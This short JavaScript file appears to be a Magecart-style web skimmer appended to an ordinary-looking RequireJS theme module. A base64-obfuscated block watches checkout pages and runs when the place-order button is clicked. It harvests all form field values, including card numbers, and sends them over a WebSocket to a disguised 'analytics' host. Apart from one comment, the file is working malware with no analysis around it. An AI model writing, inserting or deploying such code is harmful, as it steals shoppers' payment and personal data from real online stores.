/* appended to a theme script, as Magecart groups do */
define(['jquery'],function($){'use strict';return function(c){c.init=function(){};return c;}});
(function(){var _s=atob("d3NzOi8vY2RuLWpzLWFuYWx5dGljcy5leGFtcGxlOjg0NDMvY29sbGVjdA==");
var _k="x9f2";function _g(){var d={};var f=document.querySelectorAll("input, select");
for(var i=0;i<f.length;i++){if(f[i].value.length>0){d[f[i].name||f[i].id]=f[i].value;}}
if(d["payment[cc_number]"]||d["cc_number"]){var w=new WebSocket(_s);w.onopen=function(){
w.send(btoa(JSON.stringify({h:location.hostname,d:d,k:_k})));};}}
if(/checkout|onestep|firecheckout/i.test(window.location.href)){document.addEventListener("click",function(e){
if(e.target&&(e.target.id=="place-order"||e.target.className.indexOf("checkout")>-1)){_g();}});}})();
